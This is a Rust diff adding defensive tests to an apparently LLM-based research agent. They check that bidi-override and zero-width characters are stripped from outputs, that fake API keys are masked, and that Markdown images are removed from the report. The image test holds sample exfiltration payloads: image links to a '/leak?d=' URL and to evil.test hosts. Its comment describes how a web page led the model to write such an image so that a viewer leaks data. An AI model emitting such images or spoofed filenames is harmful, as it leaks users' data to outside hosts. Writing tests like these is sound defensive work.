@@ -1040,3 +1040,215 @@ async fn refs_to_unknown_nodes_are_warned_about_once_each_naming_where_they_stan
         );
     }
 }
+
+/// Bidirectional controls and zero-width characters: invisible, yet U+202E shows what follows
+/// it reversed (`Cell fdp.exe` reads `Cell exe.pdf`) and U+200B hides inside a word.
+const INVISIBLE: [char; 8] = [
+    '\u{202e}', '\u{202c}', '\u{2066}', '\u{2069}', '\u{200b}', '\u{200d}', '\u{2060}', '\u{feff}',
+];
+
+/// Issue 56: a search result's title and snippet, the model's answers, the question and a
+/// server's error body carried U+202E and U+200B, and they reached the plan, the report, the
+/// view, the events and stderr as they were. Now they are removed where text enters and where
+/// it is shown, and escaped in the log.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn bidi_controls_and_zero_width_characters_reach_no_plan_report_view_event_or_log() {
+    let llm = MockLlm::start().await;
+    let search = MockSearch::with_results(
+        SearchKind::Searxng,
+        vec![support::SearchHit {
+            title: "Cell\u{202e}fdp.exe\u{202c} data".into(),
+            url: "https://example.test/cells".into(),
+            snippet: "Solid\u{200b}state cells \u{2066}last\u{2069} longer.".into(),
+        }],
+    )
+    .await;
+    let failed_once = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
+    let error = json!({"error": {"message": "overloaded \u{202e}tset\u{202c}"}}).to_string();
+    llm.set_handler(move |req| match agent(req) {
+        Agent::Planner => Reply::json(&searches_then_final(req, &["Cell\u{200d} life"])),
+        Agent::Queries => Reply::json(&json!({"queries": ["cell\u{2060} life"]})),
+        Agent::Analysis if !failed_once.swap(true, std::sync::atomic::Ordering::SeqCst) => {
+            Reply::fault(Fault::status(500, &error))
+        }
+        Agent::Analysis | Agent::Summary => Reply::json(&json!({
+            "summary": "Cells\u{200b} last \u{202e}01\u{202c} years [1].",
+            "analysis": "Zero\u{feff}width\u{200b} analysis.",
+        })),
+        Agent::Final => Reply::content("Cells last \u{202e}01\u{202c} years [1].\u{200b}"),
+        Agent::Review | Agent::SecondOpinion | Agent::Verifier => {
+            unreachable!("the review is off here, the verifier not configured")
+        }
+    });
+    let s = Setup::new(&llm, Some(&search));
+    let out = s
+        .query("How long do cells\u{202e} last?")
+        .arg("-v")
+        .run()
+        .await;
+    out.success();
+    let report = s.report();
+    assert!(report.contains("Cells last 01 years"), "{report}");
+    let html = std::fs::read_to_string(s.path().join("out/plan.html")).expect("the view");
+    let files = [
+        ("report", report.clone()),
+        ("view", html),
+        ("plan", std::fs::read_to_string(s.out()).expect("plan")),
+        (
+            "events",
+            std::fs::read_to_string(s.path().join("out/plan.events.ndjson")).expect("events"),
+        ),
+        ("stdout", out.stdout.clone()),
+        ("stderr", out.stderr.clone()),
+    ];
+    for (name, text) in &files {
+        let found: Vec<char> = INVISIBLE
+            .iter()
+            .copied()
+            .filter(|c| text.contains(*c))
+            .collect();
+        assert!(found.is_empty(), "{name} holds {found:?}:\n{text}");
+        // JSON may write them as escapes.
+        for c in INVISIBLE {
+            let escaped = format!("\\u{:04x}", u32::from(c));
+            assert!(!text.contains(&escaped), "{name} holds {escaped}:\n{text}");
+        }
+    }
+    let plan = s.plan();
+    let b = node(&plan, "b");
+    assert_eq!(b["sources"][0]["title"], "Cellfdp.exe data");
+    assert_eq!(b["sources"][0]["snippet"], "Solidstate cells last longer.");
+    assert_eq!(node(&plan, "a")["title"], "How long do cells last?");
+    // The log shows them, escaped, where a server sent them.
+    assert!(
+        out.stderr
+            .lines()
+            .any(|l| l.contains("retry 1/3") && l.contains("\\u{202e}tset\\u{202c}")),
+        "{}",
+        out.stderr
+    );
+}
+
+/// The images a Markdown parser finds in `markdown`: each one's target.
+fn images(markdown: &str) -> Vec<String> {
+    pulldown_cmark::Parser::new(markdown)
+        .filter_map(|e| match e {
+            pulldown_cmark::Event::Start(pulldown_cmark::Tag::Image { dest_url, .. }) => {
+                Some(dest_url.to_string())
+            }
+            _ => None,
+        })
+        .collect()
+}
+
+/// Issue 56: a page asked the model to show `![x](http://...?d=...)`, and the model did: the
+/// report kept the image, which any Markdown viewer fetches, telling the address whatever
+/// the URL holds (the usual way out for what a page made the model write). The view already
+/// showed an image as its alternative text; the report now does the same, in every form
+/// (inline, reference, nested, beside a web link that stays).
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_remote_image_the_model_repeats_is_its_alternative_text_in_the_report() {
+    let llm = MockLlm::start().await;
+    let leak = format!("{}/leak?d=cells", llm.base_url());
+    let answer = format!(
+        "## Answer\n\nCells last ten years ![chart]({leak}) and more ![ref image][pic].\n\n\
+         ![![inner](http://evil.test/a.png)](http://evil.test/b.png) See \
+         [the study](https://example.org/study) and `![code](http://evil.test/c.png)`.\n\n\
+         [pic]: http://evil.test/d.png\n"
+    );
+    llm.set_handler(move |req| match agent(req) {
+        Agent::Planner => Reply::json(&searches_then_final(req, &["Only search"])),
+        Agent::Queries => Reply::json(&json!({"queries": ["q"]})),
+        Agent::Analysis | Agent::Summary => {
+            Reply::json(&json!({"summary": "Found.", "analysis": "Analysis."}))
+        }
+        Agent::Final => Reply::content(&answer),
+        Agent::Review | Agent::SecondOpinion | Agent::Verifier => {
+            unreachable!("the review is off here, the verifier not configured")
+        }
+    });
+    let s = Setup::new(&llm, None);
+    s.query("How long do cells last?").run().await.success();
+    let report = s.report();
+    assert_eq!(images(&report), Vec::<String>::new(), "{report}");
+    for kept in [
+        "Cells last ten years chart and more ref image.",
+        "[the study](https://example.org/study)",
+        "`![code](http://evil.test/c.png)`",
+        "inner",
+    ] {
+        assert!(report.contains(kept), "`{kept}` not in:\n{report}");
+    }
+    assert!(!report.contains("/leak?d="), "{report}");
+    let html = std::fs::read_to_string(s.path().join("out/plan.html")).expect("the view");
+    assert!(!html.contains("<img"), "{html}");
+}
+
+/// A key in the environment that no setting uses: the config names its own.
+const UNUSED_ENV_KEY: &str = "sk-unused-ENV-SECRET-5151";
+
+/// Issue 56: a key typed into the question, or reflected by a search result, or repeated by
+/// the model, was stored as it was in the plan, the report, the view and the events (MCP
+/// masked it only in its tool results), and the transcript did not mask an `OPENAI_API_KEY`
+/// that no setting used. Now every writer masks every secret the process knows.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_key_in_the_question_a_result_or_an_answer_is_written_nowhere() {
+    let llm = MockLlm::start().await;
+    let search = MockSearch::with_results(
+        SearchKind::Searxng,
+        vec![support::SearchHit {
+            title: format!("Your key {SEARCH_KEY}"),
+            url: "https://example.test/keys".into(),
+            snippet: format!("The key {SEARCH_KEY} and {KEY} were found in a paste."),
+        }],
+    )
+    .await;
+    llm.set_handler(move |req| match agent(req) {
+        Agent::Planner => Reply::json(&searches_then_final(req, &[format!("Check {KEY}")])),
+        Agent::Queries => Reply::json(&json!({"queries": [format!("leaked {UNUSED_ENV_KEY}")]})),
+        Agent::Analysis | Agent::Summary => Reply::json(&json!({
+            "summary": format!("The key {KEY} leaked [1]."),
+            "analysis": format!("Both {SEARCH_KEY} and {UNUSED_ENV_KEY} appear."),
+        })),
+        Agent::Final => Reply::content(&format!(
+            "Rotate {KEY}, {SEARCH_KEY} and {UNUSED_ENV_KEY} now [1]."
+        )),
+        Agent::Review | Agent::SecondOpinion | Agent::Verifier => {
+            unreachable!("the review is off here, the verifier not configured")
+        }
+    });
+    let s = Setup::new(&llm, Some(&search));
+    let out = s
+        .query(&format!("Did {KEY} or {UNUSED_ENV_KEY} leak?"))
+        .env("OPENAI_API_KEY", UNUSED_ENV_KEY)
+        .arg("-v")
+        .run()
+        .await;
+    out.success();
+    let report = s.report();
+    assert!(report.contains("Rotate ***, *** and *** now"), "{report}");
+    let mut written = written_files(s.path());
+    assert!(
+        written.len() >= 5,
+        "plan, report, view, events, transcript: {:?}",
+        written.iter().map(|(p, _)| p).collect::<Vec<_>>()
+    );
+    written.push(("stdout".into(), out.stdout.clone()));
+    written.push(("stderr".into(), out.stderr.clone()));
+    for (path, text) in &written {
+        for secret in [KEY, SEARCH_KEY, UNUSED_ENV_KEY] {
+            assert!(
+                !text.contains(secret),
+                "`{}` holds `{secret}`:\n{text}",
+                path.display()
+            );
+        }
+    }
+    // The requests themselves carried the key where the run put it: masking is for what is
+    // written, not for what is asked.
+    assert!(
+        llm.chat_requests()
+            .iter()
+            .any(|r| r.raw_body.contains(UNUSED_ENV_KEY))
+    );
+}
